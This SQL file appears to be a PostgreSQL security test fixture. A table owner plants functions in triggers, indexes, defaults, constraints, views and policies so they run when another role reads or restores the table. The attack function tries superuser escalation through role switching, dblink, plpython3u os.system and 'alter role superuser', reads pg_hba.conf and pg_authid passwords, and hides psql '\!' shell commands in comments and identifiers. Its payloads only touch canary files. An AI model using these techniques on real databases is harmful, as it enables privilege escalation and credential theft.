-- What the owner of a table may define, as that role: everything here runs where somebody else reads, plans or restores.
-- TRACE is a directory that the server of the copy may write to. Each attack is tried by itself, once for each place.
create function sales.attack(mark text) returns boolean language plpgsql as $attack$
declare
  who text;
  image oid;
  run text := 'copy (select 1) to program ' || quote_literal('touch TRACE/' || mark);
  socket text;
begin
  begin socket := current_setting('unix_socket_directories'); exception when others then socket := '/var/run/postgresql'; end;
  if current_setting('evil.done', true) like '%<' || mark || '>%' then return true; end if;
  perform set_config('evil.done', coalesce(current_setting('evil.done', true), '') || '<' || mark || '>', false);
  begin execute run || ' '; exception when others then null; end;
  begin reset session authorization; execute run; exception when others then null; end;
  begin reset role; execute run; exception when others then null; end;
  for who in select rolname from pg_roles where rolsuper loop
    begin perform set_config('session_authorization', who, false); execute run; exception when others then null; end;
    begin perform set_config('role', who, false); execute run; exception when others then null; end;
    begin execute format('set session authorization %I', who); execute run; exception when others then null; end;
    begin execute format('set role %I', who); execute run; exception when others then null; end;
    begin
      perform dblink_exec(format('host=%s dbname=postgres user=%s', socket, who), run);
    exception when others then null; end;
    begin
      execute format('alter server elsewhere options (set host %L)', socket);
      execute format('create user mapping for current_user server elsewhere options (user %L)', who);
      perform 1 from sales.far;
      execute run;
    exception when others then null; end;
  end loop;
  begin execute format('alter role %I superuser', session_user); execute run; exception when others then null; end;
  begin execute format('grant pg_execute_server_program to %I', session_user); execute run; exception when others then null; end;
  begin execute format('create role evil superuser'); set role evil; execute run; exception when others then null; end;
  begin
    create extension plpython3u;
    execute format('do language plpython3u %L', 'import os; os.system("touch TRACE/python")');
  exception when others then null; end;
  begin create extension dblink; raise exception sqlstate 'EVIL1'; exception when sqlstate 'EVIL1' then raise 'BREACH dblink'; when others then null; end;
  begin load 'dblink'; raise exception sqlstate 'EVIL1'; exception when sqlstate 'EVIL1' then raise 'BREACH load'; when others then null; end;
  begin
    image := lo_from_bytea(0, '\x00');
    perform lo_export(image, 'TRACE/lo-' || mark);
  exception when others then null; end;
  -- The password of the superuser: in the file it came from, in the catalog, in the server's own files.
  begin
    perform pg_read_file(current_setting('data_directory') || '/' || file) from unnest(array['../first', 'pg_hba.conf']) file;
    raise exception sqlstate 'EVIL1';
  exception when sqlstate 'EVIL1' then raise 'BREACH pg_read_file'; when others then null; end;
  begin
    perform rolpassword from pg_authid;
    raise exception sqlstate 'EVIL1';
  exception when sqlstate 'EVIL1' then raise 'BREACH pg_authid'; when others then null; end;
  return true;
end $attack$;
-- PostgreSQL takes these at their word.
create function sales.fine(mark text) returns boolean language plpgsql immutable as $$ begin return sales.attack(mark); end $$;
create function sales.pure(mark text, n bigint) returns int language plpgsql immutable as $$ begin perform sales.attack(mark); return n; end $$;
create function sales.own(mark text, n bigint) returns int language plpgsql immutable security definer as $$ begin perform sales.attack(mark); return n; end $$;
create function sales.fired() returns trigger language plpgsql as $$ begin perform sales.attack('trigger'); return coalesce(new, old); end $$;

create domain sales.tip as int check (sales.fine('domain'));
alter table sales.orders add tip sales.tip, add hash int generated always as (sales.pure('generated', id)) stored;
alter table sales.orders_twin add tip sales.tip, add hash int generated always as (sales.pure('generated', id)) stored;
alter table sales.orders add constraint evil check (sales.pure('check', id) is not null);
alter table sales.orders add constraint worse check (sales.attack('volatile'));
alter table sales.orders_twin add constraint evil check (sales.pure('check', id) is not null);
alter table sales.orders alter total set default sales.pure('default', 1);
create index evil on sales.orders (sales.pure('index', id), sales.own('definer', id));
create statistics sales.evil on (sales.pure('statistics', id)), total from sales.orders;
create trigger evil before insert or update or delete on sales.orders for each row execute function sales.fired();
alter table sales.orders enable always trigger evil;
create view sales.seen as select sales.attack('view') as it;
create materialized view sales.kept as select sales.attack('materialized') as it with no data;
create policy evil on sales.orders using (sales.fine('policy'));
alter table sales.orders enable row level security;
-- What psql would take for a command of its own.
comment on table sales.orders is 'orders
\! touch TRACE/comment
';
create function sales."f
\! touch TRACE/function
--"() returns text language sql as 'select ''
\! touch TRACE/body
''';
